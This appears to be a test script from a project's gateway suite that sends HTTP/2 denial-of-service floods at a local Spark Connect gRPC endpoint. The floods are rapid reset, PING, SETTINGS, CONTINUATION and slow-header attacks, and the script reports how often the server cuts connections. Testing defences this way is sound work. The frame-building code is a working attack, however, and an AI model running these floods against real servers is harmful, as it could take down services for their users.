#!/usr/bin/env python3
"""What abuses HTTP/2: floods of frames that cost their sender little.

    tests/gateway/attacks.py PORT NAME... [--seconds 10]     each again and again, as soon as it is cut off; prints how often
"""
import argparse
import collections
import functools
import socket
import struct
import sys
import threading
import time

SERVICE = "/spark.connect.SparkConnectService/"
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION, WINDOW_UPDATE = 1, 3, 4, 6, 9, 8
END_HEADERS = 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


BLOCK = b"".join(field(*pair) for pair in [
    (b":method", b"POST"), (b":scheme", b"http"), (b":path", SERVICE.encode() + b"AnalyzePlan"), (b":authority", b"x"),
    (b"te", b"trailers"), (b"content-type", b"application/grpc")])


def resets(number):
    return frame(HEADERS, END_HEADERS, 2 * number + 1, BLOCK) + frame(RST_STREAM, 0, 2 * number + 1, struct.pack(">I", 8))


ATTACKS = {
    "rapid reset": (b"", resets),
    "pings": (b"", lambda number: frame(PING, 0, 0, b"12345678")),
    "settings": (b"", lambda number: frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff")),
    "continuations": (frame(HEADERS, 0, 1, BLOCK), lambda number: frame(CONTINUATION, 0, 1, field(b"x-%d" % number, b"v" * 100))),
    "empty continuations": (frame(HEADERS, 0, 1, BLOCK), lambda number: frame(CONTINUATION, 0, 1)),
}


@functools.lru_cache(maxsize=4096)
def hundred(name, first):
    """Made once, so that an attacker spends next to nothing."""
    return b"".join(ATTACKS[name][1](number) for number in range(first, first + 100))


def attack(port, name, frames, patience=20):
    """Sends so many frames and reads what comes. Gives how many went out before the connection was ended; `frames` if it was not."""
    begin, _ = ATTACKS[name]
    with socket.create_connection(("127.0.0.1", port), timeout=patience) as s:
        ended = threading.Event()

        def read():
            try:
                while s.recv(65536):
                    pass
            except OSError:
                pass
            ended.set()

        threading.Thread(target=read, daemon=True).start()
        try:
            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + begin)
            for sent in range(0, frames, 100):
                if ended.is_set():
                    return sent
                s.sendall(hundred(name, sent))
        except OSError:
            return sent
        return sent if ended.wait(5) else frames


def slow_headers(port, over, connections=100):
    """So many connections whose headers never end: one byte of them a second. Gives how many were ended."""
    opened, ended = [], 0
    begin = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, BLOCK)[:9]
    while not over.wait(1):
        while len(opened) < connections:
            opened.append(socket.create_connection(("127.0.0.1", port), timeout=5))
            opened[-1].sendall(begin)
            opened[-1].setblocking(False)
        for s in list(opened):
            try:
                s.send(BLOCK[:1])
                if s.recv(65536) == b"":
                    raise OSError("ended")
            except BlockingIOError:
                pass
            except OSError:
                s.close()
                opened.remove(s)
                ended += 1
    for s in opened:
        s.close()
    return ended


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("port", type=int)
    p.add_argument("names", nargs="+", choices=[*ATTACKS, "slow headers"])
    p.add_argument("--seconds", type=float, default=10)
    a = p.parse_args()
    over, cut = threading.Event(), collections.Counter()

    def keep_on(name):
        if name == "slow headers":
            cut[name] += slow_headers(a.port, over)
            return
        while not over.is_set():
            try:
                cut[name] += attack(a.port, name, 20_000) < 20_000
            except OSError:
                cut[name] += 1

    threads = [threading.Thread(target=keep_on, args=(name,), daemon=True) for name in a.names]
    for thread in threads:
        thread.start()
    time.sleep(a.seconds)
    over.set()
    for thread in threads:
        thread.join(10)
    print(", ".join(f"{name} {cut[name]}" for name in a.names), flush=True)


if __name__ == "__main__":
    sys.exit(main())
